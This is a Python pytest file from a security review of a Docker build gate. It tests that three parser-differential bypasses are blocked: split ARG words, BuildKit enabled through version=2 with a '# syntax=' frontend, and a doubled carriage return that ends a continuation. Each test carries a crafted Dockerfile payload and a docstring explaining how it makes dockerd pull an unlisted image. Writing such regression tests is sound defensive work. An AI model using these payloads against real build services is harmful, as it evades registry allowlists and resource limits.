"""Findings of review round 5a (a member's classic build: framing, races, and the
round-4a fixes). Every attack here succeeded on 50ef5d3.

They reuse the build-check gate and profile (tests/integration/test_build_checks.py:
registries docker.io and 127.0.0.1:9) and raw requests as members; a daemon-side
fetch is proven with an HTTP server on 127.0.0.1 inside the private dockerd's
network namespace (tests/integration/test_review3_findings.py).
"""

from __future__ import annotations

import uuid

import pytest

from tests.integration import test_build_checks as bc
from tests.integration.test_review3_findings import daemon_loopback_server
from tests.integration.test_review4a_findings import assert_no_fetch, built, raw_build

bgate, people, images, ctxdir = bc.bgate, bc.people, bc.images, bc.ctxdir
__all__ = ["daemon_loopback_server"]

pytestmark = pytest.mark.timeout(180)


def _rand() -> str:
    return uuid.uuid4().hex[:8]


# --------------------------------------------------------------- ARG word splitting


@pytest.mark.parametrize("hider", ['ARG X="a IMG=busybox "', "ARG X=a\\ IMG=busybox"])
def test_arg_words_split_as_dockerd_splits_them(
    bgate, people, images, daemon_loopback_server, hider
):
    """dockerd reads ``ARG`` with BuildKit's ``parseNameOrNameVal``/``parseWords``:
    quotes and the escape character keep whitespace inside one word, so
    ``ARG X="a IMG=busybox "`` (or ``ARG X=a\\ IMG=busybox``) declares X only. The
    gate's ``meta_args`` splits the words on whitespace and reads a second
    declaration ``IMG=busybox`` that overrides the real ``ARG IMG=...`` above it. The
    gate then checks ``FROM busybox`` (allowed, on the engine, no triggers) while
    dockerd builds FROM the real value: any image from any registry, which it pulls
    from the daemon's network (registry allowlist, "must be on the engine" and the
    ONBUILD-trigger check all bypassed; here a fetch of 127.0.0.1:<port>/v2/)."""
    port, hits = daemon_loopback_server
    df = f"ARG IMG=127.0.0.1:{port}/evil:1\n{hider}\nFROM $IMG\nRUN true\n"
    r = raw_build(bgate, people, images, df)
    assert_no_fetch(r, hits)
    assert r.status == 403 or not built(r), r.body[-300:]


def test_quoted_arg_values_still_work(bgate, people, images):
    df = 'ARG IMG=busybox\nARG GREETING="hello world"\nFROM $IMG\nARG GREETING\nRUN echo "$GREETING"\n'
    r = raw_build(bgate, people, images, df)
    assert built(r), r.body[-400:]


# --------------------------------------------------------------- BuildKit through /build


def test_build_version_2_is_buildkit(bgate, people, images, daemon_loopback_server):
    """``POST /build?version=2`` makes dockerd 20.10 run the build with BuildKit
    (``types.BuilderBuildKit``), no ``/session`` needed: the context comes from the
    request body (the gate scans it as usual). The gate only knows the classic
    builder's rules and never looks at ``version``, so a member's Dockerfile is then
    read by BuildKit's frontend: ``# syntax=<image>`` (a comment to the gate) makes
    the daemon resolve and pull a frontend image from any registry (here
    127.0.0.1:<port>, outside the profile's registries) and run it, and the
    profile's memory/CPU limits on build steps (``memory``, ``cpuquota``) do not
    apply to BuildKit's RUN steps. The profile forbids BuildKit (``build.buildkit``)."""
    port, hits = daemon_loopback_server
    df = f"# syntax=127.0.0.1:{port}/frontend:1\nFROM busybox\nRUN true\n"
    r = raw_build(bgate, people, images, df, query="&version=2")
    assert_no_fetch(r, hits)
    assert r.status in (400, 403), (r.status, r.body[-300:])


def test_build_version_1_is_the_classic_builder(bgate, people, images):
    r = raw_build(bgate, people, images, "FROM busybox\nRUN true\n", query="&version=1")
    assert built(r), r.body[-400:]


# --------------------------------------------------------------- carriage returns


def test_two_carriage_returns_end_a_continuation_for_dockerd(
    bgate, people, images, daemon_loopback_server
):
    """dockerd reads the Dockerfile with ``bufio.ScanLines``, which drops *one* CR
    before the LF; the continuation regex ``\\\\[ \\t]*$`` then sees the second CR
    after the backslash and does not continue the line (``TrimSpace`` later removes
    the CR, and ``parseWords`` skips the trailing backslash). The gate's parser strips
    every trailing CR (``raw.rstrip("\\r\\n")``), takes the line as continued and
    swallows the next one into it: ``ENV X=y \\<CR><CR>`` followed by
    ``FROM 127.0.0.1:<port>/evil:1`` is one ENV to the gate and a second stage to
    dockerd, which pulls that image from a registry outside the profile's list (and
    runs its ONBUILD triggers unread). The physical-line second reading
    (``add_lines``) only looks for ADD and ONBUILD, not FROM."""
    port, hits = daemon_loopback_server
    df = f"FROM busybox\nENV X=y \\\r\r\nFROM 127.0.0.1:{port}/evil:1\nRUN true\n".encode()
    r = raw_build(bgate, people, images, df)
    assert_no_fetch(r, hits)


def test_crlf_dockerfiles_still_work(bgate, people, images):
    df = b'FROM busybox\r\nENV X=y \\\r\n  Z=w\r\nRUN test "$Z" = w\r\n'
    r = raw_build(bgate, people, images, df)
    assert built(r), r.body[-400:]
